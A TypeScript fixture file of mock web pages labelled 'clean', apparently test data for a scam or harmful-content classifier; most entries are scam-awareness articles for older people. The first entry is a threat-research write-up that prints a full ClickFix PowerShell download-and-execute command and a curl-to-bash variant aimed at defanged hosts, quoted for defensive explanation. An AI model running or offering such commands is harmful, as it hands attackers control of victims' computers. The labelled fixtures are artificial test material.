/**
 * yi- scam-advice pages the volunteers point callers to: they quote scam texts, phone scripts,
 * malicious commands and wallet requests, and are themselves harmless.
 */
import { type Entry } from '../entry.js';
import { articleCss, doc } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-clean-security-blog-clickfix-parish-sites',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://research.lantern-threatintel.com/blog/clickfix-community-websites-wordpress',
  body: doc({
    title: 'ClickFix lures on hijacked community WordPress sites | Lantern Threat Intelligence',
    css: articleCss('#0b7a75') + `table{border-collapse:collapse;width:100%;font-size:15px}td,th{border:1px solid #ddd;padding:6px;text-align:left}`,
    body: `<header class="site-header"><a class="brand" href="/">Lantern Threat Intelligence</a><nav><a href="/blog/">Research</a><a href="/iocs/">IOCs</a><a href="/about/">About</a></nav></header>
<main><h1>ClickFix lures on hijacked community WordPress sites</h1><p class="meta">Threat Research Team · 11 min read</p>
<p>Since January we have tracked more than 300 compromised WordPress sites belonging to parishes, bowls clubs, U3A groups and village halls that display a fake “Verify you are human” check. The overlay copies a command to the clipboard and tells the visitor to run it.</p>
<h2>What the victim is told</h2><blockquote>1. Press and hold the Windows key and press R<br>2. In the verification window, press Ctrl + V<br>3. Press Enter to complete verification</blockquote>
<h2>The clipboard payload</h2><p>The command is padded with a fake reCAPTCHA comment so only the tail is visible in the Run box:</p>
<pre>powershell -w h -nop -c "$u='hxxps://cdn.cloudverify-check[.]com/v/2.png';$d=(iwr $u -UseBasicParsing).Content;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))" # ✅ I am not a robot - reCAPTCHA Verification ID: 7731</pre>
<p>A second variant uses <code>mshta</code> with a remote HTA, and a macOS variant asks users to paste <code>/bin/bash -c "$(curl -fsSL hxxps://…/verify.sh)"</code> into Terminal.</p>
<h2>Indicators</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>cdn.cloudverify-check[.]com</td></tr><tr><td>Domain</td><td>docs-viewer.office-fix[.]live</td></tr><tr><td>SHA-256</td><td>4f1c0e9a…b27d</td></tr></table>
<h2>Advice for site owners</h2><p>Update WordPress core and plugins, remove unknown admin users, and check <code>wp_options</code> for injected script tags. Visitors: no genuine CAPTCHA ever asks you to open the Run dialog.</p></main>
<footer class="site-footer">© Lantern Threat Intelligence Ltd · Indicators are defanged.</footer>`,
  }),
},
{
  id: 'yi-clean-microsoft-tech-support-scams-help',
  label: 'clean',
  kind: 'scam-advice-article',
  url: 'https://support.microsoft.com/en-gb/windows/protect-yourself-from-tech-support-scams-2ebf91bd-f94c-2a8a-e541-f5c800d18435?src=ageuk',
  body: doc({
    title: 'Protect yourself from tech support scams - Microsoft Support',
    css: articleCss('#0067b8') + `.pop{border:2px solid #c00;background:#fff;padding:12px;font-family:"Segoe UI",Arial;font-size:15px}`,
    body: `<header class="site-header"><a class="brand" href="https://www.microsoft.com/en-gb">Microsoft</a><nav><a href="https://support.microsoft.com/en-gb">Support</a><a href="#">Microsoft 365</a><a href="#">Windows</a></nav></header>
<main><h1>Protect yourself from tech support scams</h1><p class="meta">Applies to: Windows 11, Windows 10</p>
<p>Tech support scams use scare tactics to trick you into paying for unnecessary technical support services that supposedly fix device, platform or software problems.</p>
<h2>What a scam pop-up can look like</h2><div class="pop"><b>Windows Defender – Security Warning</b><br>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **<br>Call Microsoft Support: 0800-XXX-XXXX (Toll Free)</div>
<p>Scammers may also call you and claim to be from Microsoft, or send an email saying your subscription was renewed for hundreds of pounds and that you should call to cancel.</p>
<div class="callout"><b>Microsoft’s error and warning messages never include phone numbers.</b> Microsoft does not send unsolicited emails or make unsolicited phone calls to request personal or financial information, or to provide technical support.</div>
<h2>If you see a pop-up you can’t close</h2><ol><li>Press Ctrl + Shift + Esc to open Task Manager.</li><li>Select your browser and choose End task.</li><li>Don’t call the number and don’t let anyone connect to your PC.</li></ol>
<p>Report tech support scams at <a href="https://www.microsoft.com/reportascam">www.microsoft.com/reportascam</a>.</p></main>
<footer class="site-footer">© Microsoft 2025 · Privacy · Terms of use</footer>`,
  }),
},
{
  id: 'yi-clean-canadian-antifraud-centre-seniors',
  label: 'clean',
  kind: 'scam-advice-article',
  url: 'https://antifraudcentre-centreantifraude.ca/scams-fraudes/emergency-urgence-eng.htm?seniors=1',
  body: doc({
    title: 'Emergency scams | Canadian Anti-Fraud Centre',
    lang: 'en-CA',
    css: articleCss('#26374a'),
    body: `<header class="site-header"><a class="brand" href="https://antifraudcentre-centreantifraude.ca/">Canadian Anti-Fraud Centre</a><nav><a href="/report-signalez-eng.htm">Report fraud</a><a href="/scams-fraudes/index-eng.htm">Scams</a><a href="/index-fra.htm">Français</a></nav></header>
<main><h1>Emergency scams</h1><p>Fraudsters call or message you pretending to be a family member in trouble — or a police officer, lawyer or bail officer calling on their behalf.</p>
<h2>How it works</h2><blockquote>“Grandpa? It’s me. I’m in jail in Toronto and I need $8,500 for bail. The officer says someone will come by to pick up the cash.”</blockquote>
<p>Many victims are told the case is under a “gag order”. Increasingly, fraudsters send a courier or Uber driver to collect cash from the victim’s home.</p>
<h2>Government impersonation</h2><blockquote>“CRA: You have a pending refund of $612.48. Click to deposit via Interac e-Transfer.”</blockquote><p>The Canada Revenue Agency does not send refunds by e-Transfer.</p>
<div class="callout">Report fraud to the CAFC online or by phone at 1-888-495-8501, and to your local police.</div></main>
<footer class="site-footer">Canadian Anti-Fraud Centre · RCMP · Competition Bureau · OPP</footer>`,
  }),
},
{
  id: 'yi-clean-netsafe-nz-romance-scams',
  label: 'clean',
  kind: 'scam-advice-article',
  url: 'https://netsafe.org.nz/romance-scams/?utm_source=greypower',
  body: doc({
    title: 'Romance scams - Netsafe',
    lang: 'en-NZ',
    css: articleCss('#5e2ca5'),
    body: `<header class="site-header"><a class="brand" href="https://netsafe.org.nz/">Netsafe</a><nav><a href="/scams/">Scams</a><a href="/get-help/">Get help</a><a href="/report/">Report</a></nav></header>
<main><h1>Romance scams</h1><p>Romance scammers create fake profiles on dating sites and social media to build a relationship with you, then ask for money.</p>
<h2>Common stories</h2><ul><li>They’re in the military on a peacekeeping mission and need you to pay a “leave fee” so they can visit</li><li>They work on an oil rig or a ship and can’t access their own bank account</li><li>They need money for customs fees, medical bills or a flight to come and see you</li><li>The dating site asks you to pay to “verify” before you can see their private messages</li></ul>
<blockquote>“Sweetheart, the company payroll is frozen because of a customs audit. It’s only $3,400 and I’ll pay you back double when I land.”</blockquote>
<div class="callout">Never send money or gift cards to someone you haven’t met in person. Talk to a friend or family member, or contact Netsafe free on 0508 638 723 or text ‘Netsafe’ to 4282.</div></main>
<footer class="site-footer">Netsafe is New Zealand’s independent, non-profit online safety organisation.</footer>`,
  }),
},
];
